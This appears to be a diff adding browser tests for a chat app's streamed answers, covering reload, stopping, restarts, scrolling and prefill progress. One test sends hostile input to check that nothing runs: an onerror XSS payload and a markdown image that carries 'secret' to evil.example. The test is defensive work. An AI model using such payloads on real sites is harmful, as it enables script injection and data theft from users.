@@ -1,0 +1,154 @@
+"""Answers while they are written: reload, stop, restart of the app, scrolling, hostile text."""
+
+import pytest
+from playwright.sync_api import BrowserContext, Page, expect
+
+from tests.app.markdown.corpus import LINKS, SCRIPTS
+from tests.browser.chat import answers, box, footer, live_text, say, wait_for_live_text, wait_until_complete
+from tests.browser.conftest import RunningSite
+from tests.scripted_backend import Gate, answer, delta, ending, message_start, ping
+
+pytestmark = pytest.mark.browser
+
+STARTED = message_start(usage={"input_tokens": 5, "cache_creation_input_tokens": 0, "cache_read_input_tokens": 0})
+
+
+def test_reload_in_mid_answer_loses_and_repeats_nothing(
+    site: RunningSite, signed_in: BrowserContext, page: Page
+) -> None:
+    pieces = ["Once ", "upon\n", "a  time ", "**there** ", "was a < b & c", "\n\n끝"]
+    gates = [Gate() for _ in pieces]
+    steps = [step for piece, gate in zip(pieces, gates, strict=True) for step in (delta(piece), gate)]
+    site.backend.script(STARTED, *steps, *ending(output_tokens=7))
+    page.goto("/")
+    say(page, "A story")
+    for number, gate in enumerate(gates, 1):
+        so_far = "".join(pieces[:number])
+        wait_for_live_text(page, so_far)
+        page.reload()
+        wait_for_live_text(page, so_far)
+        other = signed_in.new_page()
+        other.goto(page.url)
+        wait_for_live_text(other, so_far)
+        other.close()
+        expect(page.get_by_role("button", name="Send")).to_be_hidden()
+        gate.open()
+    wait_until_complete(page, 1)
+    expect(page.locator(".rendered strong")).to_have_text("there")
+    live = answers(page).inner_html()
+    page.reload()
+    assert answers(page).inner_html() == live
+    assert page.locator("article").count() == 2
+    assert len(site.backend.questions) == 1
+
+
+def test_stop_button_keeps_the_text(site: RunningSite, signed_in: BrowserContext, page: Page) -> None:
+    gate = Gate()
+    site.backend.script(STARTED, delta("Begun"), gate, *ending(output_tokens=3))
+    page.goto("/")
+    say(page, "Go")
+    wait_for_live_text(page, "Begun")
+    page.get_by_role("button", name="Stop").click()
+    wait_until_complete(page, 1)
+    assert "stopped by you" in footer(page, 1)
+    expect(answers(page)).to_contain_text("Begun")
+    expect(page.locator("[data-announcer]")).to_have_text("The answer has ended.")
+    site.backend.wait_for(lambda: site.backend.disconnects == 1)
+    gate.open()
+    say(page, "And now?")
+    wait_until_complete(page, 2)
+
+
+def test_escape_stops_before_the_first_token(site: RunningSite, signed_in: BrowserContext, page: Page) -> None:
+    gate = Gate()
+    site.backend.script(gate, *answer("late"))
+    page.goto("/")
+    say(page, "Go")
+    gate.wait_arrived()
+    expect(page.locator("[data-phase]")).to_be_visible()
+    box(page).press("Escape")
+    wait_until_complete(page, 1)
+    expect(answers(page)).to_contain_text("No text was written.")
+    gate.open()
+
+
+def test_app_restart_in_mid_answer_ends_in_a_named_state(
+    site: RunningSite, signed_in: BrowserContext, page: Page
+) -> None:
+    gate = Gate()
+    site.backend.script(STARTED, delta("Half an ans"), gate, *ending(output_tokens=3))
+    page.goto("/")
+    say(page, "Go")
+    wait_for_live_text(page, "Half an ans")
+    site.restart()
+    gate.open()
+    wait_until_complete(page, 1)
+    expect(answers(page).locator(".answer")).to_have_text("Half an ans")
+    expect(answers(page).locator(".problem")).to_contain_text("restarted")
+    assert "interrupted" in footer(page, 1)
+
+
+def test_scrolling_up_is_left_alone(site: RunningSite, signed_in: BrowserContext, page: Page) -> None:
+    gate, last = Gate(), Gate()
+    lines = "".join(f"line {number}\n" for number in range(120))
+    site.backend.script(STARTED, delta(lines), gate, delta(lines), last, *ending(output_tokens=3))
+    page.goto("/")
+    say(page, "Go")
+    wait_for_live_text(page, lines)
+    at_end = "() => document.documentElement.scrollHeight - scrollY - innerHeight < 5"
+    page.wait_for_function(at_end)
+    page.mouse.move(400, 300)
+    page.mouse.wheel(0, -900)
+    page.wait_for_function(f"() => !({at_end})()")
+    place = page.evaluate("scrollY")
+    gate.open()
+    wait_for_live_text(page, lines + lines)
+    assert page.evaluate("scrollY") == place
+    page.get_by_role("button", name="Go to the latest text").click()
+    page.wait_for_function(at_end)
+    last.open()
+    wait_until_complete(page, 1)
+
+
+def test_hostile_text_does_nothing_live_and_after(site: RunningSite, signed_in: BrowserContext, page: Page) -> None:
+    corpus = "\n\n".join([*SCRIPTS, *LINKS, "![x](https://evil.example/?q=secret)"]).replace(
+        "alert(1)", "window.pwned=1"
+    )
+    gate = Gate()
+    pieces = [corpus[at : at + 3] for at in range(0, len(corpus), 3)]
+    site.backend.script(STARTED, *map(delta, pieces), gate, *ending(output_tokens=3))
+    page.goto("/")
+    say(page, "<img src=x onerror=window.pwned=1>")
+    wait_for_live_text(page, corpus)
+    assert page.locator("article.live [data-text] *").count() == 0
+    gate.open()
+    wait_until_complete(page, 1)
+    page.reload()
+    for link in answers(page).locator("a[href]").all():
+        assert link.get_attribute("href").startswith(("http:", "https:", "mailto:"))  # type: ignore[union-attr]
+    assert page.evaluate("window.pwned") is None
+    assert page.locator("article img, article svg, article iframe, article form, article script").count() == 0
+
+
+def test_prefill_progress_is_told(site: RunningSite, signed_in: BrowserContext, page: Page) -> None:
+    gate = Gate()
+    site.backend.script(STARTED, ping(prefill=(1900, 700, 50)), gate, *answer("done")[1:])
+    page.goto("/")
+    say(page, "Go")
+    expect(page.locator("[data-phase]")).to_have_text(
+        "Reading the prompt: 50 of 1,900 tokens, 700 of them from the cache"
+    )
+    gate.open()
+    wait_until_complete(page, 1)
+
+
+def test_live_text_is_one_text_node(site: RunningSite, signed_in: BrowserContext, page: Page) -> None:
+    gate = Gate()
+    site.backend.script(STARTED, delta("a"), delta("<b>"), gate, *ending(output_tokens=3))
+    page.goto("/")
+    say(page, "Go")
+    wait_for_live_text(page, "a<b>")
+    assert live_text(page) == "a<b>"
+    assert page.locator("article.live [data-text]").evaluate("element => element.childNodes.length") == 1
+    gate.open()
+    wait_until_complete(page, 1)
